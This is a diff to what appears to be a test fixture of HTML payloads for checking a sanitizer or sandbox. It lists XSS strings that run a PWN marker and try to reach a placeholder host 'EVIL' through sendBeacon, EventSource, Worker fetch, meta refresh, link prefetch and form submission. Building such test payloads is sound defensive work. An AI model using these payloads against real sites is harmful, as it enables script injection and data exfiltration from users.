@@ -58,14 +58,13 @@ HTML: dict[str, tuple[str, ...]] = {
         "<script>PWN; open('http:' + '//EVIL')</script>",
         "<script>PWN; navigator.sendBeacon('http:' + '//EVIL')</script>",
         "<script>PWN; new EventSource('http:' + '//EVIL')</script>",
-        "<script>PWN; element = document.body; element.innerHTML = '<iframe srcdoc=\"<script>PWN<\\/script>\">'</script>",
+        "<script>PWN; document.body.innerHTML = '<iframe srcdoc=\"<img onerror=PWN src>\">'</script>",
         "<script>PWN; new Worker(URL.createObjectURL(new Blob(['fetch(\"http:\" + \"//EVIL\")'])))</script>",
         "<div id=element></div><script>PWN; document.write('<base href=http:' + '//EVIL><img src=x>')</script>",
         "<script>PWN; document.write('<meta http-equiv=refresh content=\"0;url=http:' + '//EVIL\">')</script>",
-        "<script>PWN; document.write('<link rel=preconnect href=http:' + '//EVIL><link rel=prefetch href=http:'"
-        " + '//EVIL>')</script>",
-        "<script>PWN; var form = document.createElement('form'); form.action = 'http:' + '//EVIL';"
-        " document.body.append(form); form.submit()</script>",
+        "<script>PWN; document.write('<link rel=preconnect href=//' + 'EVIL>')</script>",
+        "<script>PWN; document.write('<link rel=prefetch href=//' + 'EVIL>')</script>",
+        "<form action=//EVIL></form><script>PWN; document.forms[0].submit()</script>",
     ),
     "handlers": (
         "<img src=x onerror=PWN>",
